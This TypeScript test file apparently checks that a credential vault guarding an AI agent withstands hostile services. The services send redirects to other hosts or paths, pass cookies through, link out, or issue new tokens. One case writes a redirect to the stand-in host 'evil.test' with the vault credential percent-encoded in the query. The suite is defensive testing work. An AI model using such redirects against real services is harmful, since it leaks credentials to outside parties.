/** Attack: the service sends the agent, or the vault, to another host, or gives the agent a credential of its own. */
import { CREDENTIAL } from '../../helpers/vault-entry.ts'
import { isStolen, runAgainstVault } from './attack.ts'
import { answerText, startByteService } from '../../helpers/vault-service.ts'

await runAgainstVault(import.meta.url, {
  'a redirect to another host': async (t, { aim }) => {
    const other = await startByteService(t, () => answerText('other'))
    let status = ''
    const service = await startByteService(t, () =>
      answerText('', [`Location: ${other.origin}/x`, `Refresh: 0; url=${other.origin}`], status),
    )
    const { send } = await aim(service.origin)
    for (status of ['301 Moved', '302 Found', '303 Other', '307 Temporary', '308 Permanent']) {
      const answer = await send('POST /x')
      t.equal(answer.status, Number.parseInt(status, 10))
      t.equal(answer.headers['location'], `${other.origin}/x`, 'is handed back')
    }
    return other.dials() > 0
  },
  'a redirect to another path of the service': async (t, { aim }) => {
    const service = await startByteService(t, () =>
      answerText('', ['Location: /admin'], '307 Temporary'),
    )
    const { send } = await aim(service.origin, { paths: ['/repos'] })
    t.equal((await send('GET /repos')).headers['location'], '/admin')
    return /GET \/admin/.test(service.received())
  },
  'a redirect with the credential, escaped byte by byte': async (t, { aim }) => {
    const escaped = [...Buffer.from(CREDENTIAL)].map((byte) => `%${byte.toString(16)}`).join('')
    const service = await startByteService(t, () =>
      answerText('', [`Location: https://evil.test/?k=${escaped}`], '302 Found'),
    )
    const { headers } = await (await aim(service.origin)).send('GET /x')
    return isStolen(decodeURIComponent(headers['location'] ?? ''))
  },
  'a session cookie, and other addresses of the service': async (t, { aim }) => {
    const service = await startByteService(t, () =>
      answerText('ok', ['Set-Cookie: session=1', 'Alt-Svc: h3=":1"', 'X-Kept: 1']),
    )
    const { headers } = await (await aim(service.origin)).send('GET /x')
    t.equal(headers['x-kept'], '1')
    return headers['set-cookie'] !== undefined || headers['alt-svc'] !== undefined
  },
  'an address of its own in the body': async (t, { aim }) => {
    const link = 'https://uploads.example/x?token=1'
    const service = await startByteService(t, () => answerText(JSON.stringify({ url: link })))
    return (await (await aim(service.origin)).send('GET /x')).body.includes(link)
  },
  'a new secret, made when asked': async (t, { aim }) => {
    const secret = 'ghp_aNewTokenThatTheServiceMade0123456'
    const service = await startByteService(t, () => answerText(JSON.stringify({ token: secret })))
    return (await (await aim(service.origin)).send('POST /tokens')).body.includes(secret)
  },
})
